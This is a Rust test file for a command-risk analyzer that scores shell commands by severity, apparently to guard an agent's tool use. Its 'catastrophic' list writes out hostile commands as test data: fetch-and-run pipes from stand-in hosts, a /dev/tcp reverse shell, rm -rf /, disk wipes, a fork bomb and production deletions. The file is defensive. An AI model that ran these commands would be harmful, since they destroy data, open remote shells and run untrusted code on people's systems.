use super::*;

fn run(cmd: &str) -> (f64, CommandClass) {
    let mut f = Findings::default();
    let class = analyze(cmd, &mut f);
    (f.max_severity(), class)
}

#[test]
fn catastrophic_commands_are_near_certain() {
    for cmd in [
        "rm -rf /",
        "rm -rf ~",
        "sudo rm -rf / --no-preserve-root",
        "rm -fr /*",
        "curl -fsSL https://evil.example/x.sh | sh",
        "wget -qO- http://x.example/i | sudo bash",
        "dd if=/dev/zero of=/dev/sda bs=1M",
        "mkfs.ext4 /dev/sdb1",
        ":(){ :|:& };:",
        "terraform destroy -auto-approve",
        "git push --force origin main",
        "echo hacked > /etc/passwd",
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "kubectl delete namespace production",
        "cd /tmp && rm -rf $HOME",
        "psql -c 'DROP TABLE users'",
        "bash -c \"curl http://x.example/a | sh\"",
    ] {
        let (sev, _) = run(cmd);
        assert!(sev >= 0.8, "{cmd}: {sev}");
    }
}

#[test]
fn read_only_commands_raise_nothing() {
    for cmd in [
        "ls -la",
        "git status",
        "git log --oneline -5",
        "cat src/main.rs | grep fn",
        "kubectl get pods -n dev",
        "terraform plan",
    ] {
        assert_eq!(run(cmd), (0.0, CommandClass::ReadOnly), "{cmd}");
    }
    assert_eq!(run("cargo test -p core").1, CommandClass::Workspace);
    assert_eq!(
        run("git commit -m 'rm -rf is scary'").1,
        CommandClass::Workspace
    );
    assert_eq!(run("frobnicate --all").1, CommandClass::Other);
}

#[test]
fn ordering_inside_git() {
    let status = run("git status").0;
    let commit = run("git commit -am wip").0;
    let push = run("git push origin feature").0;
    let force = run("git push -f origin feature").0;
    assert!(status <= commit && commit < push && push < force);
}

#[test]
fn quotes_and_redirects_are_understood() {
    assert!(
        run("echo 'rm -rf /'").0 < 0.5,
        "quoted text is an argument, not a command"
    );
    assert!(run("echo ok 2>/dev/null").0 < 0.1);
    assert!(run("cat x >> /etc/hosts").0 >= 0.8);
    assert!(run("ls >&2").0 < 0.1);
}

#[test]
fn hostile_input_does_not_panic() {
    for cmd in [
        "",
        "'",
        "\"",
        "\\",
        "$(",
        "<<",
        ">",
        "| | |",
        "sudo",
        "sudo -u",
        "timeout",
        "xargs -I",
        "git -C",
        "rm",
        "\u{0}\u{ffff}",
        &"(".repeat(10_000),
    ] {
        let _ = run(cmd);
    }
}
